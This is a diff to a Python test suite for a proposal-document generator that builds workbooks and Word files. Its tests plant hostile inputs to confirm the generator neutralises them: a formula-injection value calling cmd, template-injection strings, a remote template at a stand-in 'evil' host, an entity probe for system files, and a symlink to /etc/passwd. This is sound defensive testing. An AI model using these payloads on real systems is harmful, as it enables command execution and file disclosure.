@@ -21,7 +21,7 @@ from services.proposal.document.word import word
 from services.proposal.document.word_template import shipped_template
 from services.proposal.document.workbook import workbook
 from tests.proposal.makers import drafted
-from tests.proposal.test_document import CJK, content_of
+from tests.proposal.test_document import CJK, bytes_of, content_of
 
 LINKED_TEMPLATE = b"""<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil/a.dotm"
  TargetMode="External"/></Relationships>"""
@@ -66,7 +66,7 @@ def template(*lines):
 def test_every_total_of_a_workbook_is_a_formula_whose_value_is_right(language):
     content = content_of("lending", 12)
 
-    data = workbook(content, language)
+    data = workbook(bytes_of(content), language)
 
     rows, found = sheets(data), formulas(data)
     work = next(sheet for name, sheet in rows.items() if name in {"工作量与报价", "Work and price"})
@@ -81,7 +81,7 @@ def test_every_total_of_a_workbook_is_a_formula_whose_value_is_right(language):
 def test_the_checks_of_a_workbook_are_zero():
     content = content_of("permits", 6)
 
-    summary = sheets(workbook(content, "en"))["Executive summary"]
+    summary = sheets(workbook(bytes_of(content), "en"))["Executive summary"]
 
     checks = {row[0]: row[1] for row in summary if row and str(row[0]).endswith("(must be nil)")}
     assert len(checks) == 2
@@ -93,7 +93,7 @@ def test_what_begins_like_a_formula_is_text():
     evil = content.requirements[0].model_copy(update={"title": '=cmd|"/c calc"!A1', "statement": "@SUM(A1)"})
     content = content.model_copy(update={"requirements": (evil, *content.requirements[1:])})
 
-    data = workbook(content, "en")
+    data = workbook(bytes_of(content), "en")
 
     assert sheets(data)["Requirement matrix"][1][1] == '=cmd|"/c calc"!A1'
     assert not any("cmd" in formula for formula, _ in formulas(data).values())
@@ -102,13 +102,13 @@ def test_what_begins_like_a_formula_is_text():
 def test_an_english_workbook_has_chinese_only_in_the_clients_words():
     content = content_of("permits", 6)
 
-    assert CJK.findall(str(sheets(workbook(content, "en")))) == []
+    assert CJK.findall(str(sheets(workbook(bytes_of(content), "en")))) == []
 
 
 def test_equal_content_gives_an_equal_workbook():
     content = content_of("lending", 5)
 
-    assert workbook(content, "zh") == workbook(content, "zh")
+    assert workbook(bytes_of(content), "zh") == workbook(bytes_of(content), "zh")
 
 
 def test_every_text_of_a_workbook_is_there_in_both_languages():
@@ -125,7 +125,7 @@ def test_every_text_of_a_workbook_is_there_in_both_languages():
 async def test_a_word_document_says_every_figure(language):
     content = content_of("lending", 12)
 
-    text = text_of(await word(content, language, shipped_template()))
+    text = text_of(await word(bytes_of(content), language, shipped_template()))
 
     figures = [f"{phase.total:,}" for phase in content.price.phases]
     figures += [f"{one.amount:,}" for one in content.price.payments] + [content.code, content.version_label]
@@ -140,14 +140,16 @@ async def test_a_word_document_says_every_figure(language):
 async def test_equal_content_gives_an_equal_word_document():
     content = content_of("permits", 3)
 
-    assert await word(content, "en", shipped_template()) == await word(content, "en", shipped_template())
+    assert await word(bytes_of(content), "en", shipped_template()) == await word(
+        bytes_of(content), "en", shipped_template()
+    )
 
 
 async def test_what_data_say_is_text_whatever_it_holds():
     content = content_of("permits", 3)
     evil = content.model_copy(update={"title": "{{ 7*7 }} <w:br/> & {% raw %}"})
 
-    text = text_of(await word(evil, "en", template("{{ title }}")))
+    text = text_of(await word(bytes_of(evil), "en", template("{{ title }}")))
 
     assert "{{ 7*7 }} <w:br/> & {% raw %}" in text
 
@@ -181,7 +183,7 @@ async def test_what_data_say_is_text_whatever_it_holds():
 )
 async def test_a_hostile_or_broken_template_is_stopped_with_the_reason(line, reason):
     with pytest.raises(RenderingFailed, match=reason):
-        await word(content_of("permits", 2), "en", template(line), seconds=2)
+        await word(bytes_of(content_of("permits", 2)), "en", template(line), seconds=2)
 
 
 def test_golden_contents_are_of_today():
@@ -354,13 +356,13 @@ async def test_entities_in_a_part_that_nobody_looks_at_reach_nothing():
             name = moved.get(member.filename, member.filename.encode()).decode()
             file.writestr(name, data.replace(b"[here]", b"[&x;]"))
 
-    made = await word(content_of("permits", 2), "en", target.getvalue())
+    made = await word(bytes_of(content_of("permits", 2)), "en", target.getvalue())
 
     assert "root:" not in text_of(made)
 
 
 async def test_a_link_to_a_file_in_a_template_is_no_link_in_the_document():
-    made = await word(content_of("permits", 2), "en", packed((SYMLINK, b"/etc/passwd")))
+    made = await word(bytes_of(content_of("permits", 2)), "en", packed((SYMLINK, b"/etc/passwd")))
 
     with zipfile.ZipFile(io.BytesIO(made)) as package:
         assert [one.filename for one in package.infolist() if one.external_attr >> 28 == 0o12] == []
